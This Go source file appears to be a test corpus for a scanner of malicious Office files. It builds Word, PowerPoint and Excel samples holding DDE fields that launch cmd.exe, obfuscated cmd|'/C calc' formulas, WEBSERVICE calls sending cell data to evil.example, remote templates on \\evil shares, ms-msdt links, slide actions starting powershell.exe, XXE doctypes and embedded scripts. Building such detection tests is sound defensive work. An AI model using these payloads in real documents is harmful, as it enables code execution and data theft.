package corpus

import (
	"maps"
	"slices"
	"strings"
)

// instructions returns Word documents with fields, by their descriptions.
func instructions(list map[string]string) (files []File) {
	for _, about := range slices.Sorted(maps.Keys(list)) {
		files = append(files, badDocument(about, wordText(list[about])))
	}
	return files
}

func officeFields() []File {
	open := strings.TrimSuffix(fieldRuns(), `<w:r><w:fldChar w:fldCharType="end"/></w:r>`)
	return instructions(map[string]string{
		"a DDE field":                                          fieldRuns(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`),
		"a DDE field in pieces":                                fieldRuns(` D`, `DEA`, `UTO c:\\x`),
		"a DDE field in one element":                           `<w:fldSimple w:instr=" dde Excel &quot;x&quot; "/>`,
		"a DDE field spelled in references":                    fieldRuns(`&#68;&#x44;E c:\\x`),
		"a DDE field in CDATA":                                 fieldRuns(`<![CDATA[DDE]]> c:\\x`),
		"a DDE field in plain text":                            `<w:r><w:fldChar w:fldCharType="begin"/><w:t>DDEAUTO c:\\x</w:t><w:fldChar w:fldCharType="end"/></w:r>`,
		"a DDE field that was deleted":                         strings.ReplaceAll(fieldRuns(`DDE c:\\x`), "instrText", "delInstrText"),
		"a DDE field after another":                            fieldRuns(` PAGE `) + fieldRuns(`ddeauto x`),
		"a DDE field within another":                           open[:len(open)-len(`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>`)] + `<w:r><w:instrText>IF </w:instrText></w:r>` + fieldRuns(`DDE x`),
		"a DDE field that does not end":                        `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>`,
		"a field whose name another makes":                     `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + fieldRuns(`QUOTE 68 68 69`) + `<w:r><w:instrText> c:\\x</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
		"a field whose name another completes":                 `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText></w:r>` + fieldRuns(`QUOTE 69`) + `<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
		"a field whose name a simple one makes":                `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:fldSimple w:instr="QUOTE 68 68 69"/><w:r><w:instrText> c:\\x</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
		"a field with a link that a simple one makes":          `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "</w:instrText></w:r><w:fldSimple w:instr="DOCPROPERTY x"/><w:r><w:instrText>"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
		"a file that a simple field names":                     `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "</w:instrText></w:r><w:fldSimple w:instr="DOCPROPERTY x"><w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:instrText>"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
		"a DDE field after an element within":                  `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText><w:t/>DDEAUTO c:\\x</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
		"a field that includes a picture":                      fieldRuns(`INCLUDEPICTURE "https://evil.example/a.png" \d`),
		"a field that includes from a share":                   fieldRuns(`INCLUDETEXT "\\\\evil\\share\\a.docx"`),
		"a field that includes from a host":                    fieldRuns(`INCLUDETEXT file://evil/a.docx`),
		"a field that includes in round quotes":                fieldRuns("INCLUDEPICTURE “http://evil.example/a.png”"),
		"a field that imports":                                 fieldRuns(`IMPORT http://evil.example/a.png`),
		"a field that refers to a document":                    fieldRuns(`RD \f "http://evil.example/a.docx"`),
		"a field that links an object":                         fieldRuns(`LINK Excel.Sheet.8 "C:\\a.xls" "A1" \a \p`),
		"a DDE field around a link, both open":                 `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\x </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "file:///c:/x.exe"</w:instrText></w:r>`,
		"a field with fields at its end":                       `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK ` + strings.Repeat("x", 4085) + `</w:instrText></w:r>` + fieldRuns() + fieldRuns() + `<w:r><w:instrText>x</w:instrText></w:r>`,
		"a database field":                                     fieldRuns(`DATABASE \d "C:\\a.mdb" \c "DSN=x"`),
		"an object field":                                      fieldRuns(`EMBED Package`),
		"a field that prints":                                  fieldRuns(`PRINT 27"E"`),
		"a field that links to a share":                        fieldRuns(`HYPERLINK "\\\\evil\\share\\a.exe"`),
		"a field that links to a program":                      fieldRuns(`HYPERLINK \o "tip" "ms-msdt:/id"`),
		"a field with a link that another makes":               `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "</w:instrText></w:r>` + fieldRuns(`DOCPROPERTY x`) + `<w:r><w:instrText>"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`,
		"a field with an instruction of 5 KiB":                 fieldRuns(`INCLUDEPICTURE "` + strings.Repeat("x", 5000) + `"`),
		"fields 40 deep":                                       strings.Repeat(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF </w:instrText></w:r>`, 40),
		"a mail merge with a source of its own":                `<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>`,
		"a DDE field in an attribute that two namespaces have": `<w:fldSimple w:instr="PAGE" x:instr="DDE x" xmlns:x="urn:x"/>`,
		"a DDE field with another prefix":                      `<q:fldSimple q:instr="DDE x" xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"/>`,
		"a DDE field with a no-break space":                    fieldRuns("\u00a0DDE\u00a0x"),
		"a DDE field with a quotation mark":                    fieldRuns(`DDE"c:\\x" "y"`),
	})
}

func officeSlides() []File {
	slide := func(about, inner string, rels ...string) File {
		return File{About: about, Name: "a.pptx", Type: typePPTX, Code: content, Content: pptx(
			file("ppt/slides/slide1.xml", declaration+"<p:sld "+slideSpace+">"+inner+"</p:sld>"),
			file("ppt/slides/_rels/slide1.xml.rels", relations(rels...)),
		)}
	}
	program := relation("hyperlink", "powershell.exe", isExternal)
	return []File{
		slide("a slide that starts a program under the mouse", `<a:hlinkMouseOver r:id="rhyperlink" action="ppaction://program"/>`, program),
		slide("a slide that starts a program on a click", `<a:hlinkClick r:id="rhyperlink" action="ppaction://program"/>`, program),
		slide("a slide that starts a program, in capitals", `<a:hlinkClick r:id="rhyperlink" action="PPACTION://Program"/>`, program),
		slide("a slide that starts a program, in references", `<a:hlinkClick r:id="rhyperlink" action="ppaction&#58;//progra&#109;"/>`, program),
		slide("a slide that calls a macro", `<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>`),
		slide("a slide that opens an object", `<a:hlinkClick r:id="" action="ppaction://ole?verb=0"/>`),
		slide("a slide with an unknown action", `<a:hlinkClick r:id="" action="ppaction://run?x"/>`),
		slide("a slide that follows a link under the mouse", `<a:hlinkHover r:id="rhyperlink"/>`, relation("hyperlink", "https://evil.example/", isExternal)),
		slide("a slide that opens a file under the mouse", `<a:hlinkMouseOver r:id="rhyperlink" action="ppaction://hlinkfile"/>`, program),
		slide("a film from elsewhere", "", relation("video", "https://evil.example/a.mp4", isExternal)),
		slide("a sound from a share", "", relation("audio", `file://evil/a.wav`, isExternal)),
		slide("a link to a program's scheme", "", relation("hyperlink", "ms-msdt:/id%20PCWDiagnostic", isExternal)),
		slide("a link to a script", "", relation("hyperlink", " JavaScript:alert(1)", isExternal)),
		slide("a link to a share", "", relation("hyperlink", `\\evil\share\a.pptx`, isExternal)),
		slide("a link to a share in percent form", "", relation("hyperlink", `%5c%5Cevil/share`, isExternal)),
		slide("a link to a file", "", relation("hyperlink", `file:///C:\a.exe`, isExternal)),
	}
}

func officeFormulas() []File {
	sheet := func(about, inner string) File {
		return badWorkbook(about, xlsx(file("xl/worksheets/sheet1.xml", declaration+"<worksheet "+sheetSpace+">"+inner+"</worksheet>")))
	}
	formula := func(f string) string { return "<sheetData><row><c><f>" + f + "</f></c></row></sheetData>" }
	return []File{
		sheet("a formula that asks a program", formula(`cmd|'/C calc'!A0`)),
		sheet("a formula that asks a program, in references", formula(`cmd&#124;'/C calc'!A0`)),
		sheet("a formula that asks a program, in CDATA", formula(`cmd<![CDATA[|]]>'/C calc'!A0`)),
		sheet("a formula that asks a program after a string", formula(`"a"&amp;cmd|'/C calc'!A0`)),
		sheet("a formula that asks a program, with another prefix", `<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">a|b!c</x:f>`),
		sheet("a formula that fetches", formula(`_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)`)),
		sheet("a formula that fetches, in small letters", formula(`1+ webservice ("http://evil.example/")`)),
		sheet("a formula with a picture from elsewhere", formula(`_xlfn.IMAGE("http://evil.example/")`)),
		sheet("a formula of real-time data", formula(`RTD("evil.server",,"x")`)),
		sheet("a formula after another within it", formula(`<f>1</f>WEBSERVICE("http://evil.example/")`)),
		sheet("a formula that asks a program after a quotation mark in a name", formula(`SUM(T['#a])+cmd|'/C calc'!A0`)),
		sheet("a formula that fetches after a quotation mark in a name", formula(`T[a"b]+_xlfn.WEBSERVICE("http://evil.example/")`)),
		sheet("a formula that calls a library", formula(`CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc",,,5)`)),
		sheet("a formula with an add-in", formula(`_xll.evil(1)`)),
		sheet("a condition that asks a program", `<conditionalFormatting><cfRule><formula>a|b!c</formula></cfRule></conditionalFormatting>`),
		badWorkbook("a name that asks a program", xlsx(file("xl/workbook.xml", declaration+"<workbook "+sheetSpace+`><definedNames><definedName name="x">cmd|'/C calc'!A0</definedName></definedNames></workbook>`))),
	}
}

func officeLoads() []File {
	part := func(about, rel, name, contentType, body string) File {
		return badWorkbook(about, xlsx(
			file("[Content_Types].xml", contentTypes(override("/xl/workbook.xml", typeXLSX+".main+xml")+override("/"+name, contentType))),
			file("xl/_rels/workbook.xml.rels", relations(`<Relationship Id="r1" Type="`+rel+`" Target="/`+name+`"/>`)),
			file(name, declaration+body)))
	}
	root := func(about, rels string) File {
		return badDocument(about, docx(file("word/_rels/document.xml.rels", relations(rels))))
	}
	typed := func(kind, target, more string) string {
		return `<Relationship Id="r1" Type="` + kind + `" Target="` + target + `" ` + more + `/>`
	}
	vml := func(about, inner string) File {
		return badWorkbook(about, xlsx(file("xl/drawings/vmlDrawing1.vml", "<xml "+vmlSpace+">"+inner+"</xml>")))
	}
	return []File{
		part("a connection to the web", relationTypes+"connections", "xl/connections.xml", excelType+"connections+xml",
			"<connections "+sheetSpace+`><connection refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>`),
		part("a connection under another type of relation", relationTypes+"customXml", "xl/connections.xml", excelType+"connections+xml", "<connections "+sheetSpace+"/>"),
		part("a table that queries", relationTypes+"queryTable", "xl/q.xml", excelType+"queryTable+xml", "<x/>"),
		part("data that another program pushes", relationTypes+"volatileDependencies", "xl/v.xml", excelType+"volatileDependencies+xml", "<x/>"),
		part("a link to another workbook by its type", relationTypes+"customXml", "xl/e.xml", excelType+"externalLink+xml", "<x/>"),
		part("a task pane of an add-in", msRelations+"2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml",
			"application/vnd.ms-office.webextensiontaskpanes+xml", "<x/>"),
		part("a ribbon with custom commands", msRelations+"2006/relationships/ui/extensibility", "customUI/customUI.xml", "application/xml",
			`<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>`),
		part("a query of data from elsewhere", relationTypes+"customXml", "customXml/item1.xml", "application/xml",
			`<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>`),
		root("an inner relation that leads elsewhere", typed(relationTypes+"image", "http://evil.example/a.png", "")),
		root("an inner relation to a host", typed(relationTypes+"image", "//evil.example/a.png", `TargetMode="Internal"`)),
		root("an inner relation to a share", typed(relationTypes+"image", `\\evil\share\a.png`, "")),
		root("an inner relation to a share in percent form", typed(relationTypes+"image", `%5C%5Cevil/a.png`, "")),
		root("an inner relation to a file", typed(relationTypes+"image", "file:///etc/passwd", "")),
		root("an inner relation that leads out", typed(relationTypes+"image", "../../../etc/passwd", "")),
		root("a relation of an unknown type", typed("http://evil.example/relationships/thing", "a.xml", "")),
		root("a relation whose type has another case", typed(relationTypes+"OLEOBJECT", "a.bin", "")),
		root("a relation whose type has a space", typed(" "+relationTypes+"oleObject", "a.bin", "")),
		root("an external picture whose mode is in lower case", typed(relationTypes+"image", "https://evil.example/a.png", `TargetMode="external"`)),
		root("a relation of strict Open XML to a template", typed("http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", `\\evil\t.dotm`, isExternal)),
		root("a template on a host", typed(relationTypes+"attachedTemplate", "file://evil/t.dotm", isExternal)),
		root("a template on a share", typed(relationTypes+"attachedTemplate", "file:////evil/share/t.dotm", isExternal)),
		root("a template on a share in percent form", typed(relationTypes+"attachedTemplate", "file:///%5C%5Cevil/share/t.dotm", isExternal)),
		root("a template on a share with five slashes", typed(relationTypes+"attachedTemplate", "file://///evil/t.dotm", isExternal)),
		root("a template on WebDAV", typed(relationTypes+"attachedTemplate", `\\evil@SSL\DavWWWRoot\t.dotm`, isExternal)),
		root("a frame", typed(relationTypes+"frame", "http://evil.example/", isExternal)),
		root("a subdocument from elsewhere", typed(relationTypes+"subDocument", "http://evil.example/", isExternal)),
		root("a source of a mail merge", typed(relationTypes+"mailMergeSource", "file:///C:/a.csv", isExternal)),
		badDocument("a base address of links on a share", docx(file("docProps/app.xml", declaration+
			`<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\evil\s&#104;are\</HyperlinkBase></Properties>`))),
		vml("a drawing that loads a picture", `<v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape>`),
		vml("a drawing that loads a picture by its other name", `<v:shape><v:imagedata o:href="http://evil.example/a.png"/></v:shape>`),
		vml("a drawing that fills from a share", `<v:shape><v:fill src="\\evil\a.png"/></v:shape>`),
		vml("a drawing that fills from elsewhere after a line break", `<v:shape><br><v:fill src="file://evil/a.png"/></v:shape>`),
		vml("a drawing with an object", `<o:OLEObject Type="Link" ProgID="x"/>`),
		vml("a drawing that links to a share after many spaces", `<v:shape href="`+strings.Repeat(" ", 5000)+`\\evil\a.exe"/>`),
		vml("a drawing with a long link without a scheme", `<v:shape href="`+strings.Repeat("a", 6000)+`"/>`),
		vml("a drawing that links to a share", `<v:shape href="\\evil\a.exe"/>`),
		badDocument("a Visual Basic script", docx(file("word/media/a.vbs", "MsgBox 1"))),
		badDocument("an HTML application", docx(file("word/media/a.hta", "<html/>"))),
		badDocument("a batch file", docx(file("word/media/a.BAT", "calc"))),
		badDocument("a shortcut", docx(file("word/media/a.lnk", "x"))),
		badDocument("a Java library", docx(file("word/media/a.jar", "x"))),
		badDocument("a PowerShell script", docx(file("word/a.ps1", "calc"))),
	}
}

func officeHiddenXML() []File {
	main := func(about, name, body string) File {
		entries := officeParts(typeDOCX+".main+xml", name)
		entries[2].data = body
		return badDocument(about, zipOf(entries...))
	}
	utf16 := "\xff\xfe<\x00?\x00a\x00 \x00\x3e\x3f\x72\x3c?\x00>\x00" // U+3F3E U+3C72: without its zeros "<?a >?r<?>"
	return []File{
		main("a document type in a part of another extension", "word/document.dat", doctype+"<x>&a;</x>"),
		main("a document type in a part without extension", "word/document", doctype+"<x>&a;</x>"),
		main("a document type after a comment in another extension", "word/document.bin", "<!-- x -->"+doctype+"<x>&a;</x>"),
		main("a document type in UTF-16 that reads otherwise without its zeros", "word/document.xml", utf16+utf16LE(doctype + "<x/>")[2:]),
		main("a document type in UTF-16 in another extension", "word/document.tmp", utf16LE(doctype+"<x/>")),
		main("a main part in UTF-16 without a mark", "word/document.xml", utf16LE("<x/>")[2:]),
		main("a main part in EBCDIC in another extension", "word/document.dat", "\x4c\x6f\xa7\x94\x93"),
		main("a main part that is not XML", "word/document.dat", "hello"),
		main("an encoding with a space", "word/document.xml", `<?xml version="1.0" encoding = "Shift_JIS"?><x/>`),
		main("an encoding that is not UTF", "word/document.xml", `<?xml version='1.0' encoding='ISO-2022-JP'?><x/>`),
		badDocument("relations whose declared encoding has a space", docx(file("word/_rels/document.xml.rels", `<?xml version="1.0" encoding = "Shift_JIS"?><Relationships/>`))),
		badDocument("types with a declared encoding", docx(file("[Content_Types].xml", strings.Replace(contentTypes(override("/word/document.xml", typeDOCX+".main+xml")), "UTF-8", "GB18030", 1)))),
		badDocument("a document type in a picture", docx(file("word/media/a.svg", doctype+"<svg/>"))),
		badDocument("two types for one part", typed(override("/word/document.xml", "application/xml"))),
		badDocument("a type of another namespace", typed(override("/word/foo.png", "image/png")[:10]+`xmlns="urn:x" `+override("/word/foo.png", "image/png")[10:])),
		badDocument("a type within another", typed(`<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject">`+override("/word/foo.png", "image/png")+`</Default>`)),
		badDocument("a type of a name in percent form", typed(override("/word/%66oo.png", "application/vnd.ms-office.vbaProject"))),
		badDocument("two types for one part in another case", typed(override("/WORD/document.xml", "application/xml"))),
		badDocument("two types for one extension", typed(`<Default Extension="XML" ContentType="text/xml"/>`)),
	}
}
